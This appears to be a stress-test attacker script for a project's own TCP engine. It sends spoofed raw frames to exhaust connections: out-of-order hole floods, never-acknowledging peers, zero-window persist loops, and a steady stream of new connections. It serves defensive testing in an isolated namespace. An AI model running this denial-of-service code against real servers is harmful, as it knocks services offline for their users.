#!/usr/bin/python3
"""Hostile TCP peers against one rampart listener, in a process of their own: test_hostile.py's
attacker (slow suite). Run on the far end of the engine's link (the veth end in the clients'
namespace):

    hostile_peers.py --iface VETH --engine-ip 10.79.0.2 --engine-mac M --peer-mac M --port 8080 \
                     --hole-rate 2000 --connect-rate 10

Every peer is a spoofed source in the /27 at ATTACK_HOSTS of the engine's /24, which the
namespace's kernel does not own (so it never resets them), speaking raw frames on an AF_PACKET
socket whose BPF filter passes only frames to that /27. Frames are packed with struct and built
once where they repeat: the engine's rate, not this process's, should set the pace.

Set-up: `--holes`, `--silent` and `--zero` peers open (SYN, the engine's cookie SYN-ACK, ACK)
and act by kind:
- a hole peer sends every segment of the engine's receive window but the first, and never the
  first (the data waits in the engine's out-of-order queue); the segments go out at the hole
  rate below, since a burst of them would overflow the engine's receive ring;
- a silent peer asks for the listener's response with a window of 8 and never acknowledges
  anything (the response waits in the engine's send queue and is retransmitted until the retry
  limit);
- a zero peer asks with a window of 0 and answers every persist probe with an ACK of nothing and
  a zero window, for as long as the engine probes.
Once every handshake is done and every hole segment was sent, a report with "ready": true
follows; a handshake without its SYN-ACK after SETUP_SECONDS ends the process with status 1.

Then, until SIGTERM, the attack keeps sending at the stated rates:
- the hole segments again, round robin over every hole peer, `--hole-rate` frames per second;
- a new never-reading peer (a fresh source port), silent and zero in turn, `--connect-rate` times
  per second, so such connections keep opening while the engine's limits drop the old ones;
- the zero peers' answers to every probe, and nothing to the silent peers' retransmissions.
A schedule that falls behind (SIGSTOP, or no CPU) restarts rather than catching up in a burst.

Every REPORT_SECONDS it prints one JSON line of running totals: `time` (CLOCK_MONOTONIC, the
clock of every process on the machine), `cpu` (its own CPU seconds), frames `sent` and `received`
(those to its peers), `hole_segments` sent, `probes_answered`, `connects` (SYNs, one per peer),
`peers` open by kind, `fed` (peers of each kind the engine sent data to: those it must
eventually drop) and `resets` (RSTs the engine sent them). A last line follows SIGTERM.
"""

from __future__ import annotations

import argparse
import ctypes
import json
import random
import select
import signal
import socket
import struct
import sys
import time
from dataclasses import dataclass
from typing import Callable

from scapy.utils import checksum

ATTACK_HOSTS = {"hole": 100, "silent": 101, "zero": 102}  # each kind's source, last byte in the engine's /24
ATTACK_MASK = 0xFFFFFFE0  # their /27 (.96 to .127)
WINDOWS = {"hole": 512, "silent": 8, "zero": 0}  # the window field each kind advertises
NEW_KINDS = ("silent", "zero")  # the never-reading peers that keep opening during the attack
MSS = 1460
WINDOW_SCALE = 7
SETUP_SECONDS = 20
REPORT_SECONDS = 0.25
ETH_P_ALL = 0x0003
SO_ATTACH_FILTER = 26    # asm-generic/socket.h (Python's socket module lacks it)
SYN, RST, PSH, ACK = 0x02, 0x04, 0x08, 0x10


def sources(engine_ip: str) -> dict[str, bytes]:
    """Each kind's spoofed source: ATTACK_HOSTS in the engine's /24, so it answers them on the link."""
    return {kind: socket.inet_aton(engine_ip)[:3] + bytes([host]) for kind, host in ATTACK_HOSTS.items()}


def attack_filter(source: bytes) -> bytes:
    """A classic BPF program for SO_ATTACH_FILTER: IPv4 frames to the /27 of `source` only, so
    the socket never sees the legitimate client's traffic (hand-assembled: ldh [12]; jeq 0x800;
    ld [30]; and mask; jeq net; ret all / ret 0)."""
    net = struct.unpack("!I", source)[0] & ATTACK_MASK
    code = [(0x28, 0, 0, 12), (0x15, 0, 4, 0x0800), (0x20, 0, 0, 30), (0x54, 0, 0, ATTACK_MASK),
            (0x15, 0, 1, net), (0x06, 0, 0, 0x40000), (0x06, 0, 0, 0)]
    return b"".join(struct.pack("HBBI", *insn) for insn in code)  # struct sock_filter


@dataclass
class Segment:
    """What the peers need of a segment from the engine."""
    destination: bytes  # IPv4 destination, 4 bytes
    port: int           # TCP destination port
    flags: int
    seq: int
    window: int
    window_scale: int   # the WScale option's shift, 0 without one
    payload: int        # TCP payload bytes


def parse(frame: bytes) -> Segment | None:
    """The Segment in an Ethernet/IPv4/TCP frame, or None for anything else."""
    if len(frame) < 34 or frame[12:14] != b"\x08\x00" or frame[23] != 6:
        return None
    ihl = (frame[14] & 0x0F) * 4
    total = struct.unpack_from("!H", frame, 16)[0]
    tcp = 14 + ihl
    if len(frame) < tcp + 20:
        return None
    port, seq, offset, flags, window = struct.unpack_from("!2xHI4xBBH", frame, tcp)
    header = (offset >> 4) * 4
    return Segment(frame[30:34], port, flags, seq, window, window_scale(frame[tcp + 20:tcp + header]),
                   total - ihl - header)


def window_scale(options: bytes) -> int:
    """The shift of a WScale option (RFC 7323 §2.2: kind 3, length 3), 0 when there is none."""
    at = 0
    while at < len(options) and options[at] != 0:
        if options[at] == 1:  # NOP
            at += 1
            continue
        if at + 1 >= len(options) or options[at + 1] < 2:
            return 0
        if options[at] == 3 and options[at + 1] == 3 and at + 2 < len(options):
            return options[at + 2]
        at += options[at + 1]
    return 0


class Wire:
    """Ethernet/IPv4/TCP frames between the peers and the engine."""

    def __init__(self, args: argparse.Namespace):
        self.engine_mac = bytes.fromhex(args.engine_mac.replace(":", ""))
        self.peer_mac = bytes.fromhex(args.peer_mac.replace(":", ""))
        self.engine_ip = socket.inet_aton(args.engine_ip)
        self.sources = sources(args.engine_ip)
        self.port = args.port
        self.sock = socket.socket(socket.AF_PACKET, socket.SOCK_RAW, socket.htons(ETH_P_ALL))
        self.sock.setsockopt(socket.SOL_SOCKET, socket.SO_RCVBUF, 8 << 20)
        code = attack_filter(self.sources["hole"])
        program = ctypes.create_string_buffer(code, len(code))
        self.sock.setsockopt(socket.SOL_SOCKET, SO_ATTACH_FILTER,
                             struct.pack("HL", len(code) // 8, ctypes.addressof(program)))
        self.sock.bind((args.iface, ETH_P_ALL))
        self.sock.setblocking(False)
        self.sent = 0
        self.received = 0

    def frame(self, source: bytes, sport: int, flags: int, seq: int, ack: int, window: int,
              options: bytes = b"", payload: bytes = b"") -> bytes:
        tcp = struct.pack("!HHIIBBHHH", sport, self.port, seq & 0xFFFFFFFF, ack & 0xFFFFFFFF,
                          (20 + len(options)) // 4 << 4, flags, window, 0, 0) + options + payload
        pseudo = source + self.engine_ip + struct.pack("!BBH", 0, socket.IPPROTO_TCP, len(tcp))
        tcp = tcp[:16] + struct.pack("!H", checksum(pseudo + tcp)) + tcp[18:]
        ip = struct.pack("!BBHHHBBH4s4s", 0x45, 0, 20 + len(tcp), 0, 0x4000, 64, socket.IPPROTO_TCP, 0,
                         source, self.engine_ip)
        ip = ip[:10] + struct.pack("!H", checksum(ip)) + ip[12:]
        return self.engine_mac + self.peer_mac + b"\x08\x00" + ip + tcp

    def send(self, frame: bytes) -> None:
        try:
            self.sock.send(frame)
            self.sent += 1
        except BlockingIOError:
            pass  # the socket's send queue is full: the frame is lost, the schedule goes on

    def receive(self) -> bytes | None:
        try:
            frame = self.sock.recv(65535)
        except BlockingIOError:
            return None
        self.received += 1
        return frame


@dataclass
class Peer:
    kind: str
    source: bytes
    sport: int
    isn: int
    window: int
    cookie: int | None = None  # the engine's ISN, from its SYN-ACK
    fed: bool = False          # the engine sent it data (a response, a probe)
    reset: bool = False


class Attack:
    def __init__(self, wire: Wire, args: argparse.Namespace):
        self.wire = wire
        self.request = f"GET / HTTP/1.1\r\nHost: {args.engine_ip}\r\n\r\n".encode()
        self.peers: dict[tuple[bytes, int], Peer] = {}
        self.hole_frames: list[bytes] = []  # every hole peer's segments, refreshed round robin
        self.next_hole = 0
        self.zero_answers: dict[int, bytes] = {}  # id(peer): its pre-built zero-window ACK
        self.next_sport = {kind: 1024 for kind in ATTACK_HOSTS}
        self.counts = dict.fromkeys(("hole_segments", "probes_answered", "connects"), 0)

    def connect(self, kind: str) -> Peer:
        """A new peer of `kind` sends its SYN (MSS, SACK permitted, window scale; no
        Timestamps, so the engine's cookie carries no window scale and neither side scales)."""
        source = self.wire.sources[kind]
        peer = Peer(kind, source, self.next_sport[kind], random.getrandbits(32), WINDOWS[kind])
        self.next_sport[kind] += 1
        self.peers[(source, peer.sport)] = peer
        options = struct.pack("!BBHBBBBBB", 2, 4, MSS, 4, 2, 1, 3, 3, WINDOW_SCALE)
        self.wire.send(self.wire.frame(source, peer.sport, SYN, peer.isn, 0, 65535, options + b"\0\0"))
        self.counts["connects"] += 1
        return peer

    def opened(self, peer: Peer, syn_ack: Segment) -> None:
        """The handshake's ACK and what the peer's kind does next (a hole peer's segments wait
        for the hole schedule: sent at once, they would overflow the engine's receive ring)."""
        peer.cookie = syn_ack.seq
        seq, ack = peer.isn + 1, peer.cookie + 1
        if peer.kind == "hole":
            self.wire.send(self.wire.frame(peer.source, peer.sport, ACK, seq, ack, peer.window))
            offered = syn_ack.window << syn_ack.window_scale
            self.hole_frames += [self.wire.frame(peer.source, peer.sport, ACK, seq + offset, ack, peer.window,
                                                 payload=bytes(MSS))
                                 for offset in range(MSS, offered - MSS + 1, MSS)]
        else:
            self.wire.send(self.wire.frame(peer.source, peer.sport, PSH | ACK, seq, ack, peer.window,
                                           payload=self.request))
            if peer.kind == "zero":
                self.zero_answers[id(peer)] = self.wire.frame(peer.source, peer.sport, ACK,
                                                              seq + len(self.request), ack, 0)

    def send_hole(self) -> None:
        self.wire.send(self.hole_frames[self.next_hole % len(self.hole_frames)])
        self.next_hole += 1
        self.counts["hole_segments"] += 1

    def on_frame(self, frame: bytes) -> None:
        segment = parse(frame)
        peer = None if segment is None else self.peers.get((segment.destination, segment.port))
        if peer is None:
            return
        if segment.flags & RST:
            peer.reset = True
        elif segment.flags & (SYN | ACK) == SYN | ACK:
            if peer.cookie is None:
                self.opened(peer, segment)
        elif segment.payload > 0:
            peer.fed = True
            if peer.kind == "zero":  # a persist probe (RFC 9293 §3.8.6.1): the window stays shut
                self.wire.send(self.zero_answers[id(peer)])
                self.counts["probes_answered"] += 1

    def receive_all(self) -> None:
        while (frame := self.wire.receive()) is not None:
            self.on_frame(frame)

    def report(self, **extra: object) -> None:
        peers = list(self.peers.values())
        print(json.dumps({
            "time": time.monotonic(), "cpu": time.process_time(), "sent": self.wire.sent,
            "received": self.wire.received, **self.counts,
            "peers": {kind: sum(1 for p in peers if p.kind == kind and p.cookie is not None) for kind in ATTACK_HOSTS},
            "fed": {kind: sum(1 for p in peers if p.kind == kind and p.fed) for kind in ATTACK_HOSTS},
            "resets": sum(1 for p in peers if p.reset), **extra}), flush=True)


class Pacer:
    """How many events are due at a steady rate. A schedule more than MAX_BEHIND seconds
    behind (the process was stopped, or got no CPU) starts again from now instead of sending the
    backlog in one burst: the rate is a ceiling, and the report says what was reached."""

    MAX_BEHIND = 0.05

    def __init__(self, rate: float):
        self.rate = rate
        self.start = time.monotonic()
        self.done = 0

    def due(self, now: float) -> int:
        if self.rate <= 0:
            return 0
        owed = int((now - self.start) * self.rate) - self.done
        if owed > self.rate * self.MAX_BEHIND:
            self.start, self.done, owed = now, 0, 1
        self.done += owed
        return owed


def set_up(attack: Attack, args: argparse.Namespace) -> None:
    """Every peer's handshake, then every hole segment once at the hole rate."""
    initial = [attack.connect(kind) for kind, count in (("hole", args.holes), ("silent", args.silent),
                                                        ("zero", args.zero)) for _ in range(count)]
    deadline = time.monotonic() + SETUP_SECONDS
    while any(p.cookie is None for p in initial):
        if time.monotonic() > deadline:
            missing = sum(1 for p in initial if p.cookie is None)
            raise SystemExit(f"hostile_peers: no SYN-ACK for {missing} of {len(initial)} handshakes "
                             f"within {SETUP_SECONDS} s")
        select.select([attack.wire.sock], [], [], 0.1)
        attack.receive_all()
    pace(attack, Pacer(args.hole_rate), Pacer(0), lambda: attack.next_hole >= len(attack.hole_frames))


def pace(attack: Attack, holes: Pacer, connects: Pacer, done: Callable[[], bool],
         report: Callable[[], None] = lambda: None) -> None:
    """Sends what the schedules make due and answers what the engine sends, until done();
    report() every REPORT_SECONDS."""
    next_report = time.monotonic()
    while not done():
        now = time.monotonic()
        for _ in range(holes.due(now) if attack.hole_frames else 0):
            attack.send_hole()
        for _ in range(connects.due(now)):
            attack.connect(NEW_KINDS[attack.counts["connects"] % len(NEW_KINDS)])
        if now >= next_report:
            report()
            next_report = now + REPORT_SECONDS
        select.select([attack.wire.sock], [], [], 0.002)
        attack.receive_all()


def run(attack: Attack, args: argparse.Namespace) -> None:
    """The attack, until SIGTERM."""
    stop = []
    signal.signal(signal.SIGTERM, lambda *_: stop.append(True))
    pace(attack, Pacer(args.hole_rate), Pacer(args.connect_rate), lambda: bool(stop), attack.report)
    attack.report(final=True)


def main() -> int:
    parser = argparse.ArgumentParser(description=__doc__.split("\n\n")[0])
    parser.add_argument("--iface", required=True, help="the far end of the engine's link, in this namespace")
    parser.add_argument("--engine-ip", required=True)
    parser.add_argument("--engine-mac", required=True)
    parser.add_argument("--peer-mac", required=True, help="the source MAC of every frame (the iface's own)")
    parser.add_argument("--port", type=int, required=True, help="the listener under attack")
    parser.add_argument("--holes", type=int, default=60)
    parser.add_argument("--silent", type=int, default=80)
    parser.add_argument("--zero", type=int, default=60)
    parser.add_argument("--hole-rate", type=float, default=2000, help="hole segments re-sent per second")
    parser.add_argument("--connect-rate", type=float, default=10,
                        help="new never-reading peers per second, silent and zero in turn")
    args = parser.parse_args()
    attack = Attack(Wire(args), args)
    set_up(attack, args)
    attack.report(ready=True)
    run(attack, args)
    return 0


if __name__ == "__main__":
    sys.exit(main())
